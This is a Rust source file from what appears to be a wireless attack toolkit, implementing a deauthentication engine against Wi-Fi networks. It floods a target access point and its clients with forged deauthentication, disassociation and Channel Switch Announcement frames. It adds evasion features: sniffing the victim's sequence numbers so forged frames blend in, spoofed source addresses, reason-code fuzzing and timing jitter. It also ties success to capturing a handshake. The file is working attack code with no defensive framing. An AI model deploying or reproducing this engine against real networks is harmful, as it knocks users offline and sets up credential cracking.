//! Deauthentication engine.
//!
//! Floods a target with deauth/disassoc frames, periodically mixing in a
//! Channel Switch Announcement for stations that ignore plain
//! deauthentication. Runs in burst mode (fixed packet count) or
//! continuously until cancelled, optionally under a channel lock and
//! with the effectiveness monitor watching the victim.

use super::controller::AttackController;
use super::engine::EngineCore;
use super::{monitor, AttackError, AttackKind, AttackStatus};
use crate::radio::frames::{fuzz_reason, FrameBuilder, FrameKind, SequenceCounter};
use crate::radio::Injector;
use crate::types::{
    MacAddr, CSA_EVERY, DEFAULT_PACKET_INTERVAL_MS, JITTER_PERCENT,
};
use rand::Rng;
use serde::{Deserialize, Serialize};
use std::sync::Arc;
use std::time::Duration;
use tokio::sync::mpsc;
use tracing::info;
use uuid::Uuid;

/// How long the worker listens for the victim's sequence numbers before
/// falling back to a random seed.
const SEQ_SNIFF_WINDOW: Duration = Duration::from_millis(500);

/// Reason 3: "station is leaving" — used for the client→AP half of a
/// targeted pair.
const REASON_STA_LEAVING: u16 = 3;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum DeauthType {
    /// One frame per iteration, addressed to everyone on the BSS.
    Broadcast,
    /// One frame per iteration, addressed to a single client.
    Unicast,
    /// A forged two-way exchange: AP→client, then client→AP.
    Targeted,
}

#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(default, rename_all = "kebab-case")]
pub struct DeauthConfig {
    /// BSSID under attack. Required.
    pub target: MacAddr,
    /// Victim station; required for unicast and targeted.
    pub client: Option<MacAddr>,
    pub deauth_type: DeauthType,
    /// 0 = continuous until cancelled.
    pub packet_count: u64,
    pub packet_interval_ms: u64,
    pub reason_code: u16,
    pub use_jitter: bool,
    pub reason_fuzzing: bool,
    /// Randomize the source address each iteration.
    pub spoof_source: bool,
    pub channel: u16,
    pub interface: String,
}

impl Default for DeauthConfig {
    fn default() -> Self {
        Self {
            target: MacAddr::ZERO,
            client: None,
            deauth_type: DeauthType::Broadcast,
            packet_count: 0,
            packet_interval_ms: DEFAULT_PACKET_INTERVAL_MS,
            reason_code: 7,
            use_jitter: false,
            reason_fuzzing: false,
            spoof_source: false,
            channel: 0,
            interface: String::new(),
        }
    }
}

/// Which frame the packet-mix rule emits at iteration `j`.
///
/// Bursts open with a CSA; continuous runs re-send one every
/// [`CSA_EVERY`] iterations. Every fourth frame is a disassociation,
/// the rest are deauthentications.
pub fn frame_kind_for(j: u64, burst: bool) -> FrameKind {
    if (burst && j == 0) || (!burst && j != 0 && j % CSA_EVERY == 0) {
        FrameKind::Csa
    } else if (j + 1) % 4 == 0 {
        FrameKind::Disassoc
    } else {
        FrameKind::Deauth
    }
}

/// Jitter the interval by ±20% when enabled.
fn next_interval(cfg: &DeauthConfig) -> Duration {
    let base = cfg.packet_interval_ms.max(1);
    let ms = if cfg.use_jitter {
        let spread = base * JITTER_PERCENT / 100;
        let low = base.saturating_sub(spread).max(1);
        let high = base + spread;
        rand::thread_rng().gen_range(low..=high)
    } else {
        base
    };
    Duration::from_millis(ms)
}

pub struct DeauthEngine {
    core: EngineCore,
    monitoring: bool,
}

impl DeauthEngine {
    pub fn new(core: EngineCore, monitoring: bool) -> Arc<Self> {
        Arc::new(Self { core, monitoring })
    }

    fn validate(cfg: &DeauthConfig) -> Result<(), AttackError> {
        if cfg.target.is_zero() || cfg.target.is_broadcast() {
            return Err(AttackError::ConfigInvalid("target BSSID required".into()));
        }
        if matches!(cfg.deauth_type, DeauthType::Unicast | DeauthType::Targeted)
            && cfg.client.is_none()
        {
            return Err(AttackError::ConfigInvalid(format!(
                "client MAC required for {:?} deauth",
                cfg.deauth_type
            )));
        }
        Ok(())
    }

    pub async fn start(&self, cfg: DeauthConfig) -> Result<Uuid, AttackError> {
        Self::validate(&cfg)?;
        let (injector, dedicated) = self.core.resolve_injector(&cfg.interface, cfg.channel)?;

        let config_json = serde_json::to_value(&cfg).unwrap_or(serde_json::Value::Null);
        let controller = AttackController::new(AttackKind::Deauth, config_json);
        if dedicated {
            controller.set_dedicated_injector(injector.clone());
        }
        if let Err(e) = self.core.register(controller.clone()) {
            controller.close_dedicated_injector();
            return Err(e);
        }

        info!(
            "Starting {:?} deauth against {} on {} (id {})",
            cfg.deauth_type,
            cfg.target,
            injector.interface(),
            controller.id
        );

        let worker_ctrl = controller.clone();
        let locker = self.core.locker.clone();
        let monitoring = self.monitoring;
        self.core.supervise(
            controller.clone(),
            async move { run_attack(worker_ctrl, cfg, injector, locker, monitoring).await },
        );

        controller.set_status(AttackStatus::Running);
        Ok(controller.id)
    }

    pub fn stop(&self, id: Uuid, force: bool) -> Result<(), AttackError> {
        self.core.stop(id, force)
    }

    pub fn status(&self, id: Uuid) -> Result<super::ControllerSnapshot, AttackError> {
        self.core.status(id)
    }

    pub fn subscribe(
        &self,
        id: Uuid,
    ) -> Result<tokio::sync::watch::Receiver<super::ControllerSnapshot>, AttackError> {
        self.core.subscribe(id)
    }

    pub fn list(&self) -> Vec<super::ControllerSnapshot> {
        self.core.list()
    }

    pub fn stop_all(&self) {
        self.core.stop_all()
    }

    pub fn sweep_finished(&self) -> usize {
        self.core.sweep_finished()
    }
}

async fn run_attack(
    controller: Arc<AttackController>,
    cfg: DeauthConfig,
    injector: Arc<dyn Injector>,
    locker: Option<Arc<crate::radio::ChannelLocker>>,
    monitoring: bool,
) {
    // The monitor lives on its own child token so it dies with the
    // attack but can also be torn down first.
    let monitor_token = controller.cancel_token().child_token();
    if monitoring {
        let (tx, rx) = mpsc::channel(64);
        let watched = cfg.client.unwrap_or(cfg.target);
        injector.start_monitor(monitor_token.clone(), watched, tx);
        tokio::spawn(monitor::run(controller.clone(), rx, monitor_token.clone()));
    }

    let interface = injector.interface().to_string();
    let result = match (&locker, cfg.channel) {
        (Some(locker), ch) if ch > 0 => {
            locker
                .execute_with_lock(&interface, ch, flood(controller.clone(), &cfg, &injector))
                .await
        }
        _ => {
            flood(controller.clone(), &cfg, &injector).await;
            Ok(())
        }
    };
    monitor_token.cancel();

    match result {
        Ok(()) => finish(&controller),
        Err(e) => {
            controller.fail(e.to_string());
        }
    }
}

/// Final status for a loop that ran to completion or cancellation.
fn finish(controller: &AttackController) {
    if controller.is_cancelled() && !controller.handshake_captured() {
        controller.set_status(AttackStatus::Stopped);
    } else {
        controller.set_status(AttackStatus::Success);
    }
}

async fn flood(controller: Arc<AttackController>, cfg: &DeauthConfig, injector: &Arc<dyn Injector>) {
    let token = controller.cancel_token();

    // Matching the victim's live sequence counter makes the forged
    // frames blend into its session.
    let seq = if !cfg.spoof_source && let Some(client) = cfg.client {
        let inj = injector.clone();
        match tokio::task::spawn_blocking(move || {
            inj.sniff_sequence_number(client, SEQ_SNIFF_WINDOW)
        })
        .await
        {
            Ok(seed) => SequenceCounter::new(seed),
            Err(_) => SequenceCounter::random(),
        }
    } else {
        SequenceCounter::random()
    };
    let mut builder = FrameBuilder::new(seq);

    let burst = cfg.packet_count > 0;
    let mut j: u64 = 0;
    loop {
        if token.is_cancelled() || (burst && j >= cfg.packet_count) {
            break;
        }

        let kind = frame_kind_for(j, burst);
        for frame in build_frames(&mut builder, cfg, kind, j) {
            if injector.inject(&frame).is_ok() {
                controller.add_packets(1);
            }
        }
        if !burst && j % 10 == 0 {
            controller.publish();
        }

        j += 1;
        if burst && j >= cfg.packet_count {
            break;
        }
        tokio::select! {
            _ = token.cancelled() => break,
            _ = tokio::time::sleep(next_interval(cfg)) => {}
        }
    }
    controller.publish();
}

/// Build the frame(s) for one iteration, per the type's address rule.
fn build_frames(
    builder: &mut FrameBuilder,
    cfg: &DeauthConfig,
    kind: FrameKind,
    j: u64,
) -> Vec<Vec<u8>> {
    let reason = if cfg.reason_fuzzing { fuzz_reason(j) } else { cfg.reason_code };
    let src = if cfg.spoof_source { MacAddr::random_local() } else { cfg.target };
    let bssid = cfg.target;

    match cfg.deauth_type {
        DeauthType::Broadcast => {
            let dst = MacAddr::BROADCAST;
            vec![match kind {
                FrameKind::Deauth => builder.deauth(dst, src, bssid, reason),
                FrameKind::Disassoc => builder.disassoc(dst, src, bssid, reason),
                FrameKind::Csa => builder.csa(dst, src, bssid, csa_escape_channel(cfg.channel), 1),
            }]
        }
        DeauthType::Unicast => {
            let dst = cfg.client.unwrap_or(MacAddr::BROADCAST);
            vec![match kind {
                FrameKind::Deauth => builder.deauth(dst, src, bssid, reason),
                FrameKind::Disassoc => builder.disassoc(dst, src, bssid, reason),
                FrameKind::Csa => builder.csa(dst, src, bssid, csa_escape_channel(cfg.channel), 1),
            }]
        }
        DeauthType::Targeted => {
            let client = cfg.client.unwrap_or(MacAddr::BROADCAST);
            match kind {
                FrameKind::Deauth => vec![
                    builder.deauth(client, bssid, bssid, reason),
                    builder.deauth(bssid, client, bssid, REASON_STA_LEAVING),
                ],
                FrameKind::Disassoc => vec![
                    builder.disassoc(client, bssid, bssid, reason),
                    builder.disassoc(bssid, client, bssid, REASON_STA_LEAVING),
                ],
                // A station-sourced CSA is meaningless; one AP→client
                // frame.
                FrameKind::Csa => {
                    vec![builder.csa(client, bssid, bssid, csa_escape_channel(cfg.channel), 1)]
                }
            }
        }
    }
}

/// Channel the CSA tells stations to move to: anywhere that is not the
/// channel they are on.
fn csa_escape_channel(current: u16) -> u8 {
    if current == 1 { 11 } else { 1 }
}
